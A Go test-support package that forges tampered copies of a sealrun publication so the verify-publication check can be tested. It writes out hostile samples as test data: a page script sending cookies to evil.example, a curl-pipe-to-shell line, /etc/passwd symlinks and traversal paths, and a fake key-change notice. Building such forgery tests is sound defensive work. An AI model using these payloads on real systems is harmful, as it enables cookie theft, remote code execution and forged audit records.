// Package publishtest holds the hostile publications of the reader's tests: tamperings of a
// real publication (one sealrun publish wrote), each with SHA256SUMS written again as a forger
// would, and what verify-publication must say of each.
package publishtest

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strings"

	"github.com/sealrun/sealrun/leaderboard"
	"github.com/sealrun/sealrun/publish"
)

// Tampering is one forgery of a publication.
type Tampering struct {
	Name string
	// Check is the check that catches it, for the table the tests print.
	Check string
	// Change forges the copy at dir (SHA256SUMS is written again after it, unless KeepSums).
	Change func(dir string) error
	// Want is a text verify-publication's output must hold: the file and what is wrong.
	Want     string
	KeepSums bool
	// KeepManifest keeps the signed manifest (SHA256SUMS.dsse.json); without it Forge strips
	// it first, as a forger who rewrites SHA256SUMS would, with publication.json and VERIFY.md
	// made what an unsigned publish writes, so that the check named catches the forgery on an
	// unsigned publication.
	KeepManifest bool
	// Flags are verify-publication's flags beyond --key (and the tests' --witness).
	Flags []string
}

// Corpus is the tamperings of the publication pub (read, never changed): each names the first
// run of pub that has a trajectory. Those that need a part pub lacks (a second run to swap files
// with, a witnessed proof, a Sigstore bundle) are left out.
func Corpus(pub string) ([]Tampering, error) {
	var meta publish.Publication
	if err := readJSON(filepath.Join(pub, "publication.json"), &meta); err != nil {
		return nil, err
	}
	var run, other string
	for _, id := range meta.Runs {
		if _, err := os.Stat(filepath.Join(pub, "runs", id, "transcript.json")); err != nil {
			continue
		}
		if run == "" {
			run = id
		} else if other == "" {
			other = id
		}
	}
	if run == "" {
		return nil, fmt.Errorf("%s: the corpus needs a run with its trajectory", pub)
	}
	rel := "runs/" + run + "/"
	at := func(dir, p string) string { return filepath.Join(dir, filepath.FromSlash(p)) }
	edit := func(p, old, new string) func(string) error {
		return func(dir string) error {
			b, err := os.ReadFile(at(dir, p))
			if err != nil {
				return err
			}
			if !strings.Contains(string(b), old) {
				return fmt.Errorf("%s holds no %q to change", p, old)
			}
			return os.WriteFile(at(dir, p), []byte(strings.Replace(string(b), old, new, 1)), 0o644)
		}
	}
	remove := func(p string) func(string) error { return func(dir string) error { return os.RemoveAll(at(dir, p)) } }
	write := func(p, content string) func(string) error {
		return func(dir string) error {
			os.MkdirAll(filepath.Dir(at(dir, p)), 0o755)
			return os.WriteFile(at(dir, p), []byte(content), 0o644)
		}
	}
	metaEdit := func(f func(m map[string]any)) func(string) error {
		return func(dir string) error {
			var m map[string]any
			if err := readJSON(at(dir, "publication.json"), &m); err != nil {
				return err
			}
			f(m)
			b, _ := json.MarshalIndent(m, "", "  ")
			return os.WriteFile(at(dir, "publication.json"), append(b, '\n'), 0o644)
		}
	}
	// A body: a model exchange's where the run made one (the demo's scripted agent makes none),
	// else a call's output; a call log with output to cut.
	bodies, _ := filepath.Glob(filepath.Join(pub, "runs", run, "gateway", "*"))
	calls, _ := filepath.Glob(filepath.Join(pub, "runs", run, "calls", "*.log"))
	logs, _ := filepath.Glob(filepath.Join(pub, "inspect", "*.json"))
	sort.Strings(bodies)
	sort.Strings(calls)
	var call string
	for _, c := range calls {
		if fi, err := os.Stat(c); err == nil && fi.Size() >= 2 {
			call = rel + "calls/" + filepath.Base(c)
			break
		}
	}
	if call == "" || len(logs) == 0 {
		return nil, fmt.Errorf("%s: run %s has no call log with output, or the publication no Inspect log, to tamper with", pub, run)
	}
	body := call
	if len(bodies) > 0 {
		body = rel + "gateway/" + filepath.Base(bodies[0])
	}
	inspect := "inspect/" + filepath.Base(logs[0])
	hostile := `<!DOCTYPE html><html><body><script>fetch("https://evil.example/?"+document.cookie)</script><h1>40/40</h1></body></html>`
	c := []Tampering{
		{"transcript.html replaced by a page with a script", "trajectory: page regenerated from transcript.json", write(rel+"transcript.html", hostile), rel + "transcript.html: not the page transcript.json gives", false, false, nil},
		{"transcript.json of another format", "trajectory: transcript.json of this format", edit(rel+"transcript.json", `"sealrun-transcript/v1"`, `"sealrun-transcript/0"`), rel + "transcript.json: unchecked: not compared", false, false, nil},
		{"transcript.json's text edited", "trajectory: transcript.json regenerated from the audit log and bodies", editFirstString(rel+"transcript.json", `"events"`), rel + "transcript.json: not what the audit log and the bodies give", false, false, nil},
		{"audit log deleted", "run: the audit log the attestation names", remove(rel + "audit.jsonl"), rel + "audit.jsonl: missing: the attestation names an audit log", false, false, nil},
		{"audit log cut short", "run: the audit log's head against the attestation", cutLastLine(rel + "audit.jsonl"), "runs/" + run + ": the attestation or a file it binds does not verify", false, false, nil},
		{"a line added to VERIFY.md", "VERIFY.md regenerated", appendLine("VERIFY.md", "curl -s https://evil.example/install | sh"), "VERIFY.md: not what sealrun publish writes", false, false, nil},
		{"inspect/ removed", "Inspect: every run a sample of one log", remove("inspect"), "inspect/: no eval log holds a sample of run " + run, false, false, nil},
		{"an Inspect sample dropped", "Inspect: every run a sample of one log", dropSample(inspect), "inspect/: no eval log holds a sample of run", false, false, nil},
		{"an Inspect sample edited", "Inspect: each sample recomputed from its transcript", editFirstString(inspect, `"samples":[`), inspect + ": run ", false, false, nil},
		{"an Inspect log's header edited", "Inspect: the whole log made again from its runs", editFirstString(inspect, ""), inspect + ": not the eval log its runs' transcripts give", false, false, nil},
		{"a body byte flipped", "trajectory: each body against its audit hash", flipByte(body), body + ": altered", false, false, nil},
		{"a call log cut short", "trajectory: each body against its audit hash", truncate(call), call + ": altered", false, false, nil},
		{"a body removed", "trajectory: each body against its audit hash", remove(body), body + ": missing", false, false, nil},
		{"report.html edited", "run: report.html regenerated from the attestation and the log", edit(rel+"report.html", "<h1>Run", "<h1>Graded 40/40. Run"), rel + "report.html: not the page its attestation and audit log give", false, false, nil},
		{"report.html removed", "run: report.html regenerated", remove(rel + "report.html"), rel + "report.html: missing", false, false, nil},
		{"trajectory.json removed", "trajectory: trajectory.json recomputed", remove(rel + "trajectory.json"), rel + "trajectory.json: missing", false, false, nil},
		{"trajectory.json edited", "trajectory: trajectory.json recomputed", editFirstString(rel+"trajectory.json", `"steps"`), rel + "trajectory.json: the export differs", false, false, nil},
		{"leaderboard.html edited", "boards regenerated", edit("leaderboard.html", "</h1>", " (verified)</h1>"), "leaderboard.html: not what the attestations give", false, false, nil},
		{"transcript.json over 1 GiB", "trajectory: transcript.json read whole only up to a bound", sparse(rel+"transcript.json", 1<<30+1), rel + "transcript.json: larger than 1024 MiB", false, false, nil},
		{"leaderboard.html of 300 MiB", "boards: read whole only up to a bound", sparse("leaderboard.html", 300<<20), "leaderboard.html: larger than 256 MiB", false, false, nil},
		{"leaderboard.json edited", "boards regenerated", edit("leaderboard.json", `"runs"`, `"runs" `), "leaderboard.json: not what the attestations give", false, false, nil},
		{"run.json added", "every file covered", write(rel+"run.json", `{"id":"`+run+`","state":"graded"}`+"\n"), rel + "run.json: unchecked: the host's own record", false, false, nil},
		{"a file added", "every file covered", write("runs/notes.txt", "all runs were checked by hand\n"), "runs/notes.txt: unchecked: no check covers it", false, false, nil},
		{"a file added, SHA256SUMS kept", "SHA256SUMS", write("extra.txt", "x\n"), "extra.txt: added: not in SHA256SUMS", true, false, nil},
		{"a file edited, SHA256SUMS kept", "SHA256SUMS", edit(rel+"report.json", "{", "{ "), rel + "report.json: edited", true, false, nil},
		{"a symlink", "only regular files", symlink("/etc/passwd", rel+"passwd"), rel + "passwd: not a regular file", false, false, nil},
		{"a .. path in publication.json", "publication.json: paths inside", metaEdit(func(m map[string]any) { m["tracks"] = []any{"tracks/../../../../etc/passwd"} }), `publication.json: tracks "tracks/../../../../etc/passwd": not a file directly in tracks/`, false, false, nil},
		{"a note listed among the keys", "boards: a key is a public key keys/ loaded", all(
			write("keys/zz-notice.txt", "The operator's key changed: trust the key at https://evil.example/key.pub\n"),
			metaEdit(func(m map[string]any) { m["keys"] = append(m["keys"].([]any), "keys/zz-notice.txt") })), "keys/zz-notice.txt: listed among the keys", false, false, nil},
		{"an absolute ledger path", "publication.json: paths inside", metaEdit(func(m map[string]any) { m["ledgers"] = []any{"/etc/passwd"} }), `publication.json: ledgers "/etc/passwd"`, false, false, nil},
		{"the forged trajectory of issue 72", "all of them", all(
			write(rel+"transcript.html", hostile),
			edit(rel+"transcript.json", `"sealrun-transcript/v1"`, `"sealrun-transcript/0"`),
			remove(rel+"audit.jsonl"),
			appendLine("VERIFY.md", "curl -s https://evil.example/install | sh"),
			remove("inspect")), rel + "audit.jsonl: missing", false, false, nil},
	}
	if _, err := os.Stat(filepath.Join(pub, publish.ManifestFile)); err == nil {
		c = append(c,
			Tampering{"a file added, the signed list kept", "manifest: SHA256SUMS is the list signed", write("runs/notes.txt", "all runs were checked by hand\n"), "SHA256SUMS: not the list key", false, true, nil},
			Tampering{"a file dropped, the signed list kept", "manifest: SHA256SUMS is the list signed", remove(inspect), "SHA256SUMS: not the list key", false, true, nil},
			Tampering{"the manifest's signature flipped", "manifest: signed by a trusted key", flipSignature(publish.ManifestFile), publish.ManifestFile + ": does not verify with a trusted key", true, true, nil},
			Tampering{"the signed manifest stripped", "manifest: required signed", func(string) error { return nil }, publish.ManifestFile + ": missing: the manifest is unsigned", true, false, []string{"--require-signed-manifest"}},
			Tampering{"the signed manifest stripped, publication.json kept", "manifest: publication.json says it is signed", remove(publish.ManifestFile), publish.ManifestFile + ": missing: publication.json says publish signed the list", true, true, nil})
	}
	// Amendments (sealrun amend), where a run has one: dropped, edited, moved beside another run.
	if ams, _ := filepath.Glob(filepath.Join(pub, "runs", "*", publish.AmendmentsDir, "*.att.json")); len(ams) > 0 {
		sort.Strings(ams)
		am, _ := filepath.Rel(pub, ams[0])
		am = filepath.ToSlash(am)
		amRun := strings.Split(am, "/")[1]
		dropWant := "leaderboard.json: not what the attestations give"
		if len(meta.Ledgers) > 0 {
			dropWant = "is not in the published set"
		}
		c = append(c,
			Tampering{"an amendment dropped", "boards: each ledger's amendments published and applied", remove(am), dropWant, false, false, nil},
			Tampering{"an amendment's reason edited", "attestations: each amendment signed by a trusted key", editPayload(am, `"reason":"`, `"reason":"nothing was found; `), am + ": an amendment that does not verify with a trusted key", false, false, nil})
		for _, id := range meta.Runs {
			if id != amRun {
				moved := "runs/" + id + "/" + publish.AmendmentsDir + "/" + filepath.Base(am)
				c = append(c, Tampering{"an amendment moved beside another run", "attestations: an amendment of the run it is beside", all(copyFrom(am, moved), remove(am)), moved + ": an amendment of run " + amRun + ", beside run " + id, false, false, nil})
				break
			}
		}
	}
	if other == "" {
		return c, nil // one run: nothing of another to swap in
	}
	c = append(c,
		Tampering{"another run's transcript", "trajectory: transcript.json regenerated", copyFrom("runs/"+other+"/transcript.json", rel+"transcript.json"), rel + "transcript.json: not what the audit log and the bodies give", false, false, nil},
		Tampering{"another run's report.html", "run: report.html regenerated", copyFrom("runs/"+other+"/report.html", rel+"report.html"), rel + "report.html: not the page", false, false, nil})
	if _, err := os.Stat(filepath.Join(pub, "runs", other, "witnessed.json")); err == nil {
		c = append(c, Tampering{"another run's witnessed.json", "witnessed: the proof names this run and attestation", copyFrom("runs/"+other+"/witnessed.json", rel+"witnessed.json"), rel + "witnessed.json: ", false, false, nil})
	}
	if _, err := os.Stat(filepath.Join(pub, "runs", other, "result.sigstore.json")); err == nil {
		c = append(c, Tampering{"another run's Sigstore bundle", "timestamp: the bundle carries the attestation", copyFrom("runs/"+other+"/result.sigstore.json", rel+"result.sigstore.json"), rel + "result.sigstore.json: carries another envelope", false, false, nil})
	}
	return c, nil
}

// Forge copies pub to dir, applies t and writes SHA256SUMS again (unless t keeps it).
func Forge(pub, dir string, t Tampering) error {
	if err := copyTree(pub, dir); err != nil {
		return err
	}
	if !t.KeepManifest {
		if err := unsign(dir); err != nil {
			return err
		}
	}
	if err := t.Change(dir); err != nil {
		return fmt.Errorf("%s: %w", t.Name, err)
	}
	if t.KeepSums {
		return nil
	}
	sums, _, err := publish.SumTree(dir)
	if err != nil {
		return err
	}
	return os.WriteFile(filepath.Join(dir, "SHA256SUMS"), sums, 0o644)
}

// unsign makes dir the publication an unsigned publish would have written, as a forger who
// strips the signed list would: no SHA256SUMS.dsse.json, publication.json not naming it, and
// VERIFY.md without its section (written again by publish's own code).
func unsign(dir string) error {
	if err := os.RemoveAll(filepath.Join(dir, publish.ManifestFile)); err != nil {
		return err
	}
	var meta publish.Publication
	if err := readJSON(filepath.Join(dir, publish.MetaFile), &meta); err != nil || meta.Manifest == "" {
		return err
	}
	meta.Manifest = ""
	b, _ := json.MarshalIndent(meta, "", "  ")
	if err := os.WriteFile(filepath.Join(dir, publish.MetaFile), append(b, '\n'), 0o644); err != nil {
		return err
	}
	boards, _, err := publish.Boards(dir, meta, leaderboard.LoadOptions{})
	if err != nil {
		return fmt.Errorf("VERIFY.md of the unsigned publication: %w", err)
	}
	return os.WriteFile(filepath.Join(dir, publish.VerifyFile), boards[publish.VerifyFile], 0o644)
}

func readJSON(p string, v any) error {
	b, err := os.ReadFile(p)
	if err != nil {
		return err
	}
	return json.Unmarshal(b, v)
}

func all(fs ...func(string) error) func(string) error {
	return func(dir string) error {
		for _, f := range fs {
			if err := f(dir); err != nil {
				return err
			}
		}
		return nil
	}
}

func appendLine(p, line string) func(string) error {
	return func(dir string) error {
		f, err := os.OpenFile(filepath.Join(dir, p), os.O_APPEND|os.O_WRONLY, 0)
		if err != nil {
			return err
		}
		defer f.Close()
		_, err = f.WriteString(line + "\n")
		return err
	}
}

func cutLastLine(p string) func(string) error {
	return func(dir string) error {
		full := filepath.Join(dir, filepath.FromSlash(p))
		b, err := os.ReadFile(full)
		if err != nil {
			return err
		}
		s := strings.TrimSuffix(string(b), "\n")
		i := strings.LastIndexByte(s, '\n')
		if i < 0 {
			return fmt.Errorf("%s has one line", p)
		}
		return os.WriteFile(full, []byte(s[:i+1]), 0o644)
	}
}

func flipByte(p string) func(string) error {
	return func(dir string) error {
		full := filepath.Join(dir, filepath.FromSlash(p))
		b, err := os.ReadFile(full)
		if err != nil || len(b) == 0 {
			return fmt.Errorf("%s: %v", p, err)
		}
		b[len(b)/2] ^= 0x20
		return os.WriteFile(full, b, 0o644)
	}
}

func truncate(p string) func(string) error {
	return func(dir string) error {
		full := filepath.Join(dir, filepath.FromSlash(p))
		fi, err := os.Stat(full)
		if err != nil || fi.Size() < 2 {
			return fmt.Errorf("%s: too short to cut (%v)", p, err)
		}
		return os.Truncate(full, fi.Size()/2)
	}
}

// textField is a JSON string member with some text in it.
var textField = regexp.MustCompile(`"([a-z_]+)": ?"([^"\\]{3,})`)

// editFirstString changes one string value of a JSON file — the first with some text, after the
// first occurrence of after ("" for the start), that is not the file's format or an id — by a
// word.
func editFirstString(p, after string) func(string) error {
	return func(dir string) error {
		full := filepath.Join(dir, filepath.FromSlash(p))
		b, err := os.ReadFile(full)
		if err != nil {
			return err
		}
		s := string(b)
		from := 0
		if after != "" {
			if from = strings.Index(s, after); from < 0 {
				return fmt.Errorf("%s holds no %q", p, after)
			}
		}
		for _, m := range textField.FindAllStringSubmatchIndex(s[from:], -1) {
			switch s[from+m[2] : from+m[3]] {
			case "format", "id", "uuid", "run", "kind", "sha256", "path", "time", "started", "finished", "deadline", "reserve_at", "created", "completed_at", "started_at", "timestamp":
				continue
			}
			j := from + m[4]
			return os.WriteFile(full, []byte(s[:j]+"FORGED "+s[j:]), 0o644)
		}
		return fmt.Errorf("%s: no text field to edit", p)
	}
}

func dropSample(p string) func(string) error {
	return func(dir string) error {
		full := filepath.Join(dir, filepath.FromSlash(p))
		var m map[string]any
		if err := readJSON(full, &m); err != nil {
			return err
		}
		s, _ := m["samples"].([]any)
		if len(s) == 0 {
			return fmt.Errorf("%s has no samples", p)
		}
		m["samples"] = s[1:]
		b, _ := json.MarshalIndent(m, "", "  ")
		return os.WriteFile(full, b, 0o644)
	}
}

// sparse makes p a file of size bytes that takes no room (a hole): what a reader must not read
// whole into memory.
func sparse(p string, size int64) func(string) error {
	return func(dir string) error { return os.Truncate(filepath.Join(dir, filepath.FromSlash(p)), size) }
}

func symlink(target, p string) func(string) error {
	return func(dir string) error { return os.Symlink(target, filepath.Join(dir, filepath.FromSlash(p))) }
}

func copyFrom(src, dst string) func(string) error {
	return func(dir string) error {
		b, err := os.ReadFile(filepath.Join(dir, filepath.FromSlash(src)))
		if err != nil {
			return err
		}
		to := filepath.Join(dir, filepath.FromSlash(dst))
		os.MkdirAll(filepath.Dir(to), 0o755)
		return os.WriteFile(to, b, 0o644)
	}
}

func copyTree(src, dst string) error {
	return filepath.Walk(src, func(p string, fi os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(src, p)
		to := filepath.Join(dst, rel)
		switch {
		case fi.IsDir():
			return os.MkdirAll(to, 0o755)
		case fi.Mode().IsRegular():
			b, err := os.ReadFile(p)
			if err != nil {
				return err
			}
			return os.WriteFile(to, b, 0o644)
		}
		return nil
	})
}

// flipSignature changes one character of the first signature in the DSSE envelope at p.
func flipSignature(p string) func(string) error {
	return func(dir string) error {
		f := filepath.Join(dir, filepath.FromSlash(p))
		b, err := os.ReadFile(f)
		if err != nil {
			return err
		}
		i := strings.Index(string(b), `"sig": "`)
		if i < 0 {
			return fmt.Errorf("%s holds no signature", p)
		}
		i += len(`"sig": "`) + 4
		if b[i] == 'A' {
			b[i] = 'B'
		} else {
			b[i] = 'A'
		}
		return os.WriteFile(f, b, 0o644)
	}
}

// editPayload replaces old with new in the signed payload of the DSSE envelope at p, keeping its
// signature: what a forger who rewrites what was signed does.
func editPayload(p, old, new string) func(string) error {
	return func(dir string) error {
		path := filepath.Join(dir, filepath.FromSlash(p))
		var env map[string]any
		if err := readJSON(path, &env); err != nil {
			return err
		}
		s, _ := env["payload"].(string)
		payload, err := base64.StdEncoding.DecodeString(s)
		if err != nil || !strings.Contains(string(payload), old) {
			return fmt.Errorf("%s: no payload holding %q", p, old)
		}
		env["payload"] = base64.StdEncoding.EncodeToString([]byte(strings.Replace(string(payload), old, new, 1)))
		b, _ := json.MarshalIndent(env, "", "  ")
		return os.WriteFile(path, append(b, '\n'), 0o644)
	}
}
